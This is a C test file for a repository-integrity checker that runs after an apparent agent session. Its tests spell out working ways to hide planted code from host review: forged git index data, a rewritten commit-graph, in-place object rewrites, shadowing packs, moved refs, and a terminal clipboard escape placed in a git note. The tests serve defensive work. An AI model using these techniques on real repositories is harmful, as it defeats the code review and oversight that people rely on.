	"    exts = [x for x in exts if x[0] != b'TREE']\n"                                                    \
	"out = bytes(hdr) + struct.pack('>I', len(ents)) + b''.join(bytes(x[1]) for x in ents) + b''.join(x[1] for x in exts)\n" \
	"open(p, 'wb').write(out + hashlib.sha1(out).digest())\n"                                              \
	"EOF\n"

/*
 * Round 33 (c1): a sparse index's directory entry "tests/" (040000,
 * skip-worktree) over tests/, whose conftest.py the session edited: host
 * git expands it into skip-worktree entries and shows no change. The
 * index moves aside (`git reset` then shows the edit).
 */
static void test_index_sparse_dir(void)
{
	static const char *const want[] = {"/work/.git/index: an index with a sparse directory entry (tests/)", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 GI_PY "cd work && mkdir tests && echo ok > tests/test_app.py && "
				       "echo '# fixtures' > tests/conftest.py && git add . && git commit -q -m t",
				 NULL, NULL,
				 "echo planted >> tests/conftest.py && "
				 "python3 \"$M/../gi.py\" .git/index sparsedir tests $(git rev-parse HEAD:tests) && echo DONE",
				 "git -C work reset -q; git -C work status --short") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	CU_ASSERT(!exists(&c, "work/.git/index") || test_has(c.host, " M tests/conftest.py"));
	CU_ASSERT(test_has(c.host, " M tests/conftest.py"));
	if (!test_has(c.host, " M tests/conftest.py"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 33 (c2): an entry given back the old object with the edited
 * file's times but its ctime nanoseconds 0 (git compares whole seconds),
 * and a tracked symbolic link repointed whose entry names the old target
 * (the forged-entry check hashes regular files only). Both showed
 * nothing on the host and gave no line; the index rewritten with every
 * size 0 makes git compare both with their files.
 */
static void test_index_forged_nsec_and_link(void)
{
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 GI_PY "cd work && echo 'print(1)' > t.py && mkdir settings && echo D=1 > settings/dev.py && "
				       "echo D=2 > settings/ci.py && ln -s settings/dev.py local_settings.py && git add . && "
				       "git commit -q -m t",
				 NULL, NULL,
				 "echo planted >> t.py && ln -sfn settings/ci.py local_settings.py && "
				 "git add t.py local_settings.py && sleep 1.1 && "
				 "python3 \"$M/../gi.py\" .git/index oid t.py $(git rev-parse HEAD:t.py) && "
				 "python3 \"$M/../gi.py\" .git/index ctimens t.py 0 && "
				 "python3 \"$M/../gi.py\" .git/index oid local_settings.py "
				 "$(git rev-parse HEAD:local_settings.py) && echo DONE",
				 "git -C work status --short; git -C work diff --stat | cat") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	CU_ASSERT(c.status == 0);
	CU_ASSERT(test_has(c.host, " M t.py"));
	CU_ASSERT(test_has(c.host, " M local_settings.py"));
	CU_ASSERT(exists(&c, "work/.git/index"));
	if (!test_has(c.host, " M t.py") || !test_has(c.host, " M local_settings.py"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 33 (c3): the untracked cache (UNTR) hid a new file: the session
 * staged tests/conftest.py, let git build the cache (the file tracked,
 * not listed), then dropped the entry and kept the cache. The index
 * rewritten without UNTR: git reads tests/ again and lists the file.
 */
static void test_index_untracked_cache(void)
{
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 GI_PY "cd work && mkdir tests && echo ok > tests/test_app.py && git add . && "
				       "git commit -q -m t",
				 NULL, NULL,
				 "echo planted > tests/conftest.py && git add tests/conftest.py && sleep 2.1 && "
				 "git -c core.untrackedCache=true status --short >/dev/null && "
				 "git -c core.untrackedCache=true status --short >/dev/null && "
				 "python3 \"$M/../gi.py\" .git/index drop tests/conftest.py && echo DONE",
				 "git -C work status --short") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	CU_ASSERT(c.status == 0);
	CU_ASSERT(test_has(c.host, "?? tests/conftest.py"));
	if (!test_has(c.host, "?? tests/conftest.py"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 33 (c6): a forged cache-tree (TREE): tests/conftest.py edited and
 * really added, only the cache-tree taken from an index `git read-tree
 * HEAD` wrote. git status and diff --cached trusted it and showed
 * nothing; the index rewritten without TREE shows the staged edit.
 */
static void test_index_cache_tree(void)
{
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 GI_PY "cd work && mkdir tests && echo ok > tests/test_app.py && "
				       "echo '# fixtures' > tests/conftest.py && echo app > app.py && git add . && "
				       "git commit -q -m t",
				 NULL, NULL,
				 "echo planted >> tests/conftest.py && git add tests/conftest.py && sleep 1.1 && "
				 "cp .git/index .git/idx.tmp && GIT_INDEX_FILE=.git/idx.tmp git read-tree HEAD && "
				 "python3 \"$M/../gi.py\" .git/index treefrom .git/idx.tmp && rm .git/idx.tmp && echo DONE",
				 "git -C work status --short; git -C work diff --cached --stat | cat") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	CU_ASSERT(c.status == 0);
	CU_ASSERT(test_has(c.host, "M  tests/conftest.py"));
	if (!test_has(c.host, "M  tests/conftest.py"))
		show(&c);
	gcase_free(&c);
}

/*
 * The review of round 33: the index rewrite dropped every optional
 * extension, the resolve-undo record (REUC) among them, which git cannot
 * rebuild: after a session resolved a merge conflict with git add, the
 * host's `git checkout -m g` could not make the conflict again ("Updated
 * 0 paths"). REUC stays; the index is still rewritten (sizes 0).
 */
static void test_index_resolve_undo(void)
{
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cd work && echo x > g && echo y > h && git add g h && git commit -qm base && "
				 "git checkout -qb other && echo x2 > g && git commit -qam other && git checkout -q - && "
				 "echo x3 > g && git commit -qam main",
				 NULL, NULL,
				 "git merge -q other >/dev/null 2>&1; echo resolved > g && git add g && echo DONE",
				 "git -C work ls-files --debug h | grep size; git -C work checkout -m g 2>&1; "
				 "git -C work ls-files -s g") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	CU_ASSERT(c.status == 0);
	CU_ASSERT(test_has(c.host, "size: 0"));
	CU_ASSERT(test_has(c.host, "Recreated 1 merge conflict") && test_has(c.host, " 3\tg"));
	if (!test_has(c.host, "Recreated 1 merge conflict"))
		show(&c);
	gcase_free(&c);
}

/*
 * The review of round 33: c6's forged cache-tree with one byte of the
 * index's checksum changed. gitindex.c left an index whose checksum did
 * not match as it was ("git refuses it"), but git 2.39 checks that
 * checksum only in fsck: status and diff --cached trusted the cache-tree
 * and showed nothing. The index moves aside; `git reset` shows the edit.
 */
static void test_index_bad_checksum(void)
{
	static const char *const want[] = {"/work/.git/index: an index written in the session whose checksum does "
					   "not match",
					   NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 GI_PY "cd work && mkdir tests && echo ok > tests/test_app.py && "
				       "echo '# fixtures' > tests/conftest.py && echo app > app.py && git add . && "
				       "git commit -q -m t",
				 NULL, NULL,
				 "echo planted >> tests/conftest.py && git add tests/conftest.py && sleep 1.1 && "
				 "cp .git/index .git/idx.tmp && GIT_INDEX_FILE=.git/idx.tmp git read-tree HEAD && "
				 "python3 \"$M/../gi.py\" .git/index treefrom .git/idx.tmp && rm .git/idx.tmp && "
				 "python3 -c \"import sys; b = bytearray(open(sys.argv[1], 'rb').read()); b[-1] ^= 1; "
				 "open(sys.argv[1], 'wb').write(b)\" .git/index && echo DONE",
				 "git -C work status --short; git -C work reset -q; git -C work status --short") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	CU_ASSERT(test_has(c.host, " M tests/conftest.py"));
	if (!test_has(c.host, " M tests/conftest.py"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 33 (c7): a linked worktree inside the repository (.worktrees/feat,
 * as agent tools make them): the session marks an edited file of it
 * skip-worktree and takes "/.git" off the admin directory's gitdir file,
 * which the check read to find the work tree (git does not): no line.
 * The work tree is now found from its own .git file (pointing back at
 * the admin directory) and the index moves aside. A second worktree's
 * gitdir file made to name nothing: the check fails closed, its index
 * with a skip-worktree bit moves aside too.
 */
static void test_index_worktree_gitdir_text(void)
{
	static const char *const want[] = {"/work/.git/worktrees/feat/index: an index marking 1 file the session "
					   "changed or removed skip-worktree",
					   "/work/.git/worktrees/feat2/index: an index marking 1 entry skip-worktree "
					   "or assume-unchanged (tests/conftest.py) whose work tree the check cannot find",
					   NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cd work && mkdir tests && echo ok > tests/test_app.py && "
				 "echo '# fixtures' > tests/conftest.py && echo .worktrees/ > .gitignore && git add . && "
				 "git commit -q -m t && git worktree add -q .worktrees/feat -b feat && "
				 "git worktree add -q .worktrees/feat2 -b feat2",
				 NULL, NULL,
				 "for w in feat feat2; do echo planted >> .worktrees/$w/tests/conftest.py && "
				 "git -C .worktrees/$w update-index --skip-worktree tests/conftest.py || exit 1; done && "
				 "sed -i 's|/\\.git$||' .git/worktrees/feat/gitdir && echo nowhere > .git/worktrees/feat2/gitdir && "
				 "git worktree list && echo DONE",
				 "for w in feat feat2; do (cd work/.worktrees/$w && git reset -q; git status --short); done") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	CU_ASSERT(test_has(c.host, " M tests/conftest.py\n M tests/conftest.py"));
	if (!test_has(c.host, " M tests/conftest.py\n M tests/conftest.py"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 33: a session's ordinary git use (edit, add, commit, status)
 * leaves an index the host's git reads as before: status shows the one
 * change left unstaged, log shows the session's commit, no line is
 * printed, and the index was rewritten (sizes 0, no cache-tree).
 */
static void test_index_normal_session(void)
{
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cd work && echo a > a.py && echo b > b.py && mkdir d && echo c > d/c.py && "
				 "git add . && git commit -q -m ab",
				 NULL, NULL,
				 "echo a2 >> a.py && git add a.py && git commit -q -m session-commit && "
				 "echo b2 >> b.py && echo new > n.py && git status --short && echo DONE",
				 "cd work && git status --short; git log --format=%s | cat; git diff --cached --stat | cat; "
				 "git ls-files --debug d/c.py | grep size; git fsck --no-dangling 2>&1 | head -3; "
				 "git status --short") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	CU_ASSERT(c.status == 0);
	CU_ASSERT(!test_has(c.err, "index"));
	CU_ASSERT(test_has(c.host, " M b.py\n?? n.py\nsession-commit\nab\n"));
	CU_ASSERT(!test_has(c.host, "a.py") && !test_has(c.host, "d/c.py"));
	/* the host's first status wrote true stat data back */
	CU_ASSERT(!test_has(c.host, "size: 0\t"));
	if (!test_has(c.host, " M b.py\n?? n.py\nsession-commit\nab\n") || test_has(c.err, "index"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 33 (family R): caches git trusts without checking them against
 * the objects. The session rewrites the commit-graph so that the head
 * commit's parent is its grandparent: the host's git log skipped the
 * middle commit (git push sends it). A multi-pack-index and a pack
 * bitmap written in the session move aside too; the host's git log
 * then reads the commits.
 */
static void test_forged_commit_graph(void)
{
	static const char *const want[] = {"/work/.git/objects/info/commit-graph: a commit-graph written in the session",
					   "/work/n/.git/objects/pack/multi-pack-index: a multi-pack-index",
					   ".bitmap: a pack bitmap written in the session", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cat > forge.py <<'EOF'\n"
				 "import os, subprocess\n"
				 "p = '.git/objects/info/commit-graph'\n"
				 "os.chmod(p, 0o644)\n"
				 "b = bytearray(open(p, 'rb').read())\n"
				 "ch = {}\n"
				 "for i in range(b[6] + 1):\n"
				 "    o = 8 + 12 * i\n"
				 "    ch[bytes(b[o:o + 4])] = int.from_bytes(b[o + 4:o + 12], 'big')\n"
				 "f = ch[b'OIDF'] + 255 * 4\n"
				 "n = int.from_bytes(b[f:f + 4], 'big')\n"
				 "oids = [bytes(b[ch[b'OIDL'] + 20 * i:ch[b'OIDL'] + 20 * i + 20]).hex() for i in range(n)]\n"
				 "rev = lambda r: subprocess.check_output(['git', 'rev-parse', r]).decode().strip()\n"
				 "e = ch[b'CDAT'] + 36 * oids.index(rev('HEAD'))\n"
				 "b[e + 20:e + 24] = oids.index(rev('HEAD~2')).to_bytes(4, 'big')\n"
				 "open(p, 'wb').write(b)\n"
				 "EOF\n"
				 "cd work && git commit -q --allow-empty -m a && git commit -q --allow-empty -m b && "
				 "git init -q n && git -C n commit -q --allow-empty -m n",
				 NULL, NULL,
				 "git commit -q --allow-empty -m hidden && git commit -q --allow-empty -m c && "
				 "git commit-graph write --reachable && python3 \"$M/../forge.py\" && "
				 "git log --format=%s | tr '\\n' ' ' && "
				 "git -C n repack -q -adb && git -C n multi-pack-index write && echo DONE",
				 "git -C work log --format=%s | tr '\\n' ' '; echo; ls work/n/.git/objects/pack | "
				 "grep -c 'bitmap$'") == 0);
	CU_ASSERT(test_has(c.out, "c b a"));
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	/* the host's git log shows the commit git push sends */
	CU_ASSERT(test_has(c.host, "c hidden b a"));
	CU_ASSERT(test_has(c.host, "\n0\n"));
	if (!test_has(c.host, "c hidden b a") || !test_has(c.host, "\n0\n"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 33 (family R): refs other than HEAD moved in the session. The
 * session commits, sets refs/remotes/origin/main to its HEAD (the host's
 * git status then said "up to date with 'origin/main'" while git push
 * sends the commit), moves the tag v1 (loose over its packed line),
 * removes the packed tag v0 and adds a note: all with status 0 and no
 * line. Each kind is now named, old -> new; a nested repository whose
 * refs were only packed in the session says nothing.
 */
static void test_refs_moved(void)
{
	static const char *const want[] = {
		"look at ", "/work/.git: tags moved, made or removed in the session", "refs/tags/v0 ", " -> (none)",
		"refs/tags/v1 ", "/work/.git: remote-tracking refs set in the session",
		"refs/remotes/origin/", "/work/.git: notes refs changed in the session",
		"refs/notes/commits (none) -> ", "/work/.git: branches moved, made or removed in the session", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "git clone -q --bare work origin.git && cd work && "
				 "git remote add origin ../origin.git && git fetch -q origin && "
				 "git branch -q -u origin/main 2>/dev/null || git branch -q -u origin/master; "
				 "git tag v0 && git commit -q --allow-empty -m rel && git tag v1 && git pack-refs --all && "
				 "git init -q n && git -C n commit -q --allow-empty -m n && git -C n tag t1",
				 NULL, NULL,
				 "echo planted > app.py && git add app.py && git commit -q -m feature && "
				 "B=$(git rev-parse --abbrev-ref '@{u}') && git update-ref refs/remotes/$B HEAD && "
				 "git tag -f v1 HEAD >/dev/null && git tag -d v0 >/dev/null && "
				 "git notes add -m 'reviewed: ok' HEAD && git -C n pack-refs --all && "
				 "git status | grep -o 'up to date' && echo DONE",
				 "git -C work status | grep -c 'up to date'") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	CU_ASSERT(!test_has(c.err, "/work/n/.git"));
	CU_ASSERT(c.status == 0);
	if (test_has(c.err, "/work/n/.git") || c.status != 0)
		show(&c);
	gcase_free(&c);
}

/*
 * The review of round 33: packed-refs' "^" line (what an annotated tag
 * peels to) was no part of a ref's value. The session rewrote v1.0's
 * peeled line to its own HEAD: the tag object unchanged, no line, and the
 * host's git describe said HEAD was v1.0 (show-ref -d and an upload-pack
 * advertisement too). Now named. A nested repository whose loose
 * annotated tag the session's git pack-refs packs (a peeled line
 * appears, the tag unmoved) gives no line.
 */
static void test_refs_peeled(void)
{
	static const char *const want[] = {"/work/.git: tags moved, made or removed in the session",
					   "refs/tags/v1.0 ^", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cd work && echo a > a && git add a && git commit -qm A && git tag -a -m rel v1.0 && "
				 "echo b >> a && git commit -qam B && git pack-refs --all && "
				 "git init -q n && git -C n commit -q --allow-empty -m n && git -C n tag -a -m t t1",
				 NULL, NULL,
				 "H=$(git rev-parse HEAD) && P=$(git rev-parse 'v1.0^{commit}') && "
				 "sed -i \"s/^^$P/^$H/\" .git/packed-refs && git -C n pack-refs --all && "
				 "grep -q '^^' n/.git/packed-refs && git describe && echo DONE",
				 "git -C work describe") == 0);
	CU_ASSERT(test_has(c.out, "v1.0\nDONE"));
	expect_safe(&c, want);
	CU_ASSERT(!test_has(c.err, "/work/n/.git"));
	CU_ASSERT(c.status == 0);
	if (test_has(c.err, "/work/n/.git") || c.status != 0)
		show(&c);
	gcase_free(&c);
}

/*
 * Round 33 (c9): Mercurial's dirstate is git's index: the session edits
 * app.py and rewrites .hg/dirstate (v1) so app.py's entry records the
 * edited file's size and mtime; hg trusted them, `hg status` was clean.
 * The dirstate written in the session gets every normal entry's mtime
 * -1 (look it up): hg compares the content and shows the edit.
 */
static void test_hg_dirstate_forged(void)
{
	struct gcase c;

	SKIP_IF_NEEDED();
	if (access("/usr/bin/hg", X_OK) != 0) {
		TEST_SKIP("no Mercurial (/usr/bin/hg)");
		return;
	}
	CU_ASSERT_FATAL(run_case(&c,
				 "cat > hgforge.py <<'EOF'\n"
				 "import os, struct\n"
				 "b = open('.hg/dirstate', 'rb').read(); out = bytearray(b[:40]); i = 40\n"
				 "while i < len(b):\n"
				 "    st, mode, size, mtime, nl = struct.unpack('>cllll', b[i:i+17]); name = b[i+17:i+17+nl]\n"
				 "    i += 17 + nl\n"
				 "    if name == b'app.py':\n"
				 "        s = os.stat('app.py'); mode, size, mtime = s.st_mode, s.st_size, int(s.st_mtime)\n"
				 "    out += struct.pack('>cllll', st, mode, size, mtime, nl) + name\n"
				 "open('.hg/dirstate', 'wb').write(out)\n"
				 "EOF\n"
				 "cd work && hg init h && cd h && echo 'print(1)' > app.py && hg add -q app.py && "
				 "hg commit -q -u t -m init && sleep 1.1",
				 NULL, NULL,
				 "cd h && echo planted >> app.py && sleep 2.1 && python3 \"$M/../hgforge.py\" && echo DONE",
				 "cd work/h && hg status") == 0);
	CU_ASSERT(test_has(c.out, "DONE"));
	CU_ASSERT(c.status == 0);
	CU_ASSERT(test_has(c.host, "M app.py"));
	if (!test_has(c.host, "M app.py"))
		show(&c);
	gcase_free(&c);
}

/* Round 33: a note holding an escape sequence (OSC 52, the clipboard)
 * added in the session: the host's git log printed it raw under the
 * commit. The loose notes ref moves aside (out of refs/ first); a packed
 * one is named for removal. */
static void test_notes_controls(void)
{
	static const char *const want[] = {"/work/.git/notes-commits: a notes ref whose notes, added in the session, hold "
					   "control characters",
					   "/work/n/.git: a notes ref whose notes, added in the session, hold control "
					   "characters",
					   "refs/notes/commits, in packed-refs (remove it: git update-ref -d refs/notes/commits)",
					   NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "cd work && git init -q n && git -C n commit -q --allow-empty -m n", NULL, NULL,
				 "git notes add -m \"$(printf 'ok\\033]52;c;eA==\\007')\" HEAD && "
				 "git -C n notes add -m \"$(printf 'ok\\033[2J')\" HEAD && git -C n pack-refs --all && "
				 "git log -1 | tr -cd '\\033' | wc -c && echo DONE",
				 "git -C work log -1 | tr -cd '\\033' | wc -c") == 0);
	/* ESC bytes counted (od's lines with "033" also counted an offset
	 * such as 0000330: the test failed by the log's length). */
	CU_ASSERT(test_has(c.out, "1\nDONE"));
	expect_safe(&c, want);
	CU_ASSERT(strcmp(c.host, "0\n") == 0);
	if (strcmp(c.host, "0\n") != 0)
		show(&c);
	gcase_free(&c);
}

/*
 * Round 33 (family R2, c5): git never hashes an object again when it
 * reads it. The session rewrites the loose object of HEAD:app.py in
 * place (in a SHA-1 and in a SHA-256 repository) and commits something
 * else: status, diff and log -p stayed clean, and the host's git archive,
 * checkout and reset --hard gave the planted app.py. The rewritten
 * objects move aside; the session's own new objects (its commit) stay.
 * On the host git archive no longer gives the planted content (the
 * object is missing until `git hash-object -w app.py` from the reviewed
 * work tree writes it again).
 */
static void test_object_rewritten(void)
{
	static const char *const want[] = {
		"quarantined ", "/work/.git/objects/", ": a loose object rewritten in the session: its content does not hash",
		"/work/s/.git/objects/", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cat > rw.py <<'EOF'\n"
				 "import os, subprocess, sys, zlib\n"
				 "o = subprocess.check_output(['git', 'rev-parse', 'HEAD:app.py']).decode().strip()\n"
				 "f = '.git/objects/%s/%s' % (o[:2], o[2:])\n"
				 "b = b'print(\"planted\")\\n'\n"
				 "open(f + '.new', 'wb').write(zlib.compress(b'blob %d\\0' % len(b) + b))\n"
				 "os.rename(f + '.new', f)\n"
				 "EOF\n"
				 "cd work && echo 'print(\"hello\")' > app.py && git add app.py && git commit -q -m app && "
				 "git init -q --object-format=sha256 s && cd s && echo 'print(\"hello\")' > app.py && "
				 "git add app.py && git commit -q -m app",
				 NULL, NULL,
				 "python3 \"$M/../rw.py\" && (cd s && python3 \"$M/../rw.py\") && echo doc > README && git add README && git commit -q -m doc && "
				 "git archive HEAD app.py | tar -xO && git status --short | wc -l && echo DONE",
				 "cd work && git archive HEAD app.py 2>&1 | tar -xO 2>&1; git -C s archive HEAD app.py 2>&1 | "
				 "tar -xO 2>&1; git hash-object -w app.py >/dev/null && git -C s hash-object -w app.py >/dev/null "
				 "&& git archive HEAD | tar -xO app.py README && git -C s archive HEAD | tar -xO app.py") == 0);
	CU_ASSERT(test_has(c.out, "planted"));
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	/* the host never gets the planted app.py; the session's commit is kept */
	CU_ASSERT(!test_has(c.host, "planted"));
	CU_ASSERT(test_has(c.host, "doc\nprint(\"hello\")\nprint(\"hello\")\n"));
	CU_ASSERT(!test_has(c.err, "README"));
	if (test_has(c.host, "planted") || !test_has(c.host, "doc\nprint(\"hello\")\nprint(\"hello\")\n"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 33 (family R2, c5b): no stored object touched. The session adds a
 * new pack whose .idx names HEAD:app.py's object for planted content
 * (git looks in packs first): the host's git archive gave the planted
 * app.py. The pack does not verify against its index (git index-pack
 * --verify): both move aside. A nested repository the session only
 * repacks (new packs of its own) says nothing.
 */
static void test_pack_shadows_object(void)
{
	static const char *const want[] = {
		"quarantined ", "/work/.git/objects/pack/pack-",
		".idx: the index of a pack written in the session that does not verify", ".pack: a pack written in the session "
		"that does not verify", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cat > fp.py <<'EOF'\n"
				 "import hashlib, os, struct, subprocess, sys\n"
				 "x = bytes.fromhex(subprocess.check_output(['git', 'rev-parse', 'HEAD:app.py']).decode().strip())\n"
				 "p = subprocess.run(['git', 'hash-object', '-w', '--stdin'], input=b'print(\"planted\")\\n', "
				 "capture_output=True).stdout.decode().strip()\n"
				 "base = subprocess.run(['git', 'pack-objects', '-q', '.git/objects/pack/pack'], input=(p + '\\n')"
				 ".encode(), capture_output=True).stdout.decode().strip()\n"
				 "os.unlink('.git/objects/%s/%s' % (p[:2], p[2:]))\n"
				 "i = '.git/objects/pack/pack-%s.idx' % base\n"
				 "b = bytearray(open(i, 'rb').read())\n"
				 "for n in range(256): b[8 + n * 4:12 + n * 4] = struct.pack('>I', 1 if n >= x[0] else 0)\n"
				 "b[8 + 1024:8 + 1024 + 20] = x\n"
				 "b[-20:] = hashlib.sha1(bytes(b[:-20])).digest()\n"
				 "os.chmod(i, 0o644)\n"
				 "open(i, 'wb').write(b)\n"
				 "EOF\n"
				 "cd work && echo 'print(\"hello\")' > app.py && git add app.py && git commit -q -m app && "
				 "git init -q n && for i in 1 2 3; do seq $i 500 > n/f$i; git -C n add .; "
				 "git -C n commit -q -m $i; done",
				 NULL, NULL,
				 "python3 \"$M/../fp.py\" && git archive HEAD app.py | tar -xO && "
				 "git -C n repack -q -ad && echo x >> n/f1 && git -C n commit -q -am x && git -C n repack -q && echo DONE",
				 "cd work && git archive HEAD app.py | tar -xO; git status --short app.py | wc -l; "
				 "git -C n log --oneline | wc -l") == 0);
	CU_ASSERT(test_has(c.out, "planted"));
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	CU_ASSERT(!test_has(c.err, "/work/n/.git/objects"));
	CU_ASSERT(test_has(c.host, "print(\"hello\")\n0\n4\n"));
	if (test_has(c.err, "/work/n/.git/objects") || !test_has(c.host, "print(\"hello\")\n0\n4\n"))
		show(&c);
	gcase_free(&c);
}

/*
 * Review of round 34 (A2): git's walk of objects/pack skips only . and
 * .., so a forged pack named .pack-x.pack with .pack-x.idx (or .pack with
 * .idx, an empty base) is read like any other; the check skipped every
 * name starting with '.': the host's git archive gave the planted app.py,
 * no line, status 0. Both move aside now.
 */
static void test_pack_dot_named(void)
{
	static const char *const want[] = {
		"quarantined ", "/work/.git/objects/pack/.pack-x.idx: the index of a pack written in the session that "
		"does not verify", "/work/s/.git/objects/pack/.idx: the index of a pack", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cat > fp.py <<'EOF'\n"
				 "import hashlib, os, struct, subprocess, sys\n"
				 "x = bytes.fromhex(subprocess.check_output(['git', 'rev-parse', 'HEAD:app.py']).decode().strip())\n"
				 "p = subprocess.run(['git', 'hash-object', '-w', '--stdin'], input=b'print(\"planted\")\\n', "
				 "capture_output=True).stdout.decode().strip()\n"
				 "base = subprocess.run(['git', 'pack-objects', '-q', '.git/objects/pack/pack'], input=(p + '\\n')"
				 ".encode(), capture_output=True).stdout.decode().strip()\n"
				 "os.unlink('.git/objects/%s/%s' % (p[:2], p[2:]))\n"
				 "i = '.git/objects/pack/pack-%s.idx' % base\n"
				 "b = bytearray(open(i, 'rb').read())\n"
				 "for n in range(256): b[8 + n * 4:12 + n * 4] = struct.pack('>I', 1 if n >= x[0] else 0)\n"
				 "b[8 + 1024:8 + 1024 + 20] = x\n"
				 "b[-20:] = hashlib.sha1(bytes(b[:-20])).digest()\n"
				 "os.unlink(i)\n"
				 "open('.git/objects/pack/%s.idx' % sys.argv[1], 'wb').write(b)\n"
				 "os.rename('.git/objects/pack/pack-%s.pack' % base, '.git/objects/pack/%s.pack' % sys.argv[1])\n"
				 "EOF\n"
				 "cd work && echo 'print(\"hello\")' > app.py && git add app.py && git commit -q -m app && "
				 "git init -q s && cp app.py s/ && git -C s add app.py && git -C s commit -q -m app",
				 NULL, NULL,
				 "python3 \"$M/../fp.py\" .pack-x && (cd s && python3 \"$M/../fp.py\" '') && "
				 "git archive HEAD app.py | tar -xO && git -C s archive HEAD app.py | tar -xO && echo DONE",
				 "cd work && git archive HEAD app.py | tar -xO; git -C s archive HEAD app.py | tar -xO") == 0);
	CU_ASSERT(test_has(c.out, "print(\"planted\")\nprint(\"planted\")\nDONE"));
	CU_ASSERT(test_has(c.out, "DONE"));
	expect_safe(&c, want);
	CU_ASSERT(!test_has(c.host, "planted"));
	CU_ASSERT(test_has(c.host, "print(\"hello\")\nprint(\"hello\")\n"));
	if (test_has(c.host, "planted"))
		show(&c);
	gcase_free(&c);
}

/*
 * Review of round 34 (A1): the 1 GiB of packs the check verifies was
 * spent on what the session chose: a sparse 1 GiB pack-0000.pack (no
 * disk, no time) with an empty .idx, checked first by name, then the
 * forged pack-ffff was only named "not verified" and stayed (the host's
 * git archive gave the planted app.py). An .idx and .pack that do not
 * agree (count, checksum) move aside without the pack being read, packs
 * go smallest first, and one past the bound moves aside.
 */
static void test_pack_bound_junk(void)
{
	static const char *const want[] = {
		"quarantined ", "/work/.git/objects/pack/pack-ffff.idx: the index of a pack written in the session that "
		"does not verify", "/work/.git/objects/pack/pack-0000.idx: the index of a pack written in the session "
		"that does not agree with its pack", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "cat > fp.py <<'EOF'\n"
				 "import hashlib, os, struct, subprocess, sys\n"
				 "x = bytes.fromhex(subprocess.check_output(['git', 'rev-parse', 'HEAD:app.py']).decode().strip())\n"
				 "p = subprocess.run(['git', 'hash-object', '-w', '--stdin'], input=b'print(\"planted\")\\n', "
				 "capture_output=True).stdout.decode().strip()\n"
				 "base = subprocess.run(['git', 'pack-objects', '-q', '.git/objects/pack/pack'], input=(p + '\\n')"
				 ".encode(), capture_output=True).stdout.decode().strip()\n"
				 "os.unlink('.git/objects/%s/%s' % (p[:2], p[2:]))\n"
				 "i = '.git/objects/pack/pack-%s.idx' % base\n"
				 "b = bytearray(open(i, 'rb').read())\n"
				 "for n in range(256): b[8 + n * 4:12 + n * 4] = struct.pack('>I', 1 if n >= x[0] else 0)\n"
				 "b[8 + 1024:8 + 1024 + 20] = x\n"
				 "b[-20:] = hashlib.sha1(bytes(b[:-20])).digest()\n"
				 "os.unlink(i)\n"
				 "open('.git/objects/pack/%s.idx' % sys.argv[1], 'wb').write(b)\n"
				 "os.rename('.git/objects/pack/pack-%s.pack' % base, '.git/objects/pack/%s.pack' % sys.argv[1])\n"
				 "EOF\n"
				 "cd work && echo 'print(\"hello\")' > app.py && git add app.py && git commit -q -m app",
				 NULL, NULL,
				 "python3 \"$M/../fp.py\" pack-ffff && : > .git/objects/pack/pack-0000.idx && "
				 "truncate -s 1G .git/objects/pack/pack-0000.pack && git archive HEAD app.py | tar -xO && echo DONE",
				 "cd work && git archive HEAD app.py | tar -xO") == 0);
	CU_ASSERT(test_has(c.out, "print(\"planted\")\nDONE"));
	expect_safe(&c, want);
	CU_ASSERT(!test_has(c.err, "not verified"));
	CU_ASSERT(!test_has(c.host, "planted"));
	CU_ASSERT(test_has(c.host, "print(\"hello\")\n"));
	if (test_has(c.host, "planted"))
		show(&c);
	gcase_free(&c);
}

/*
 * Review of round 34 (A5): the 1 GiB the check inflates of loose objects
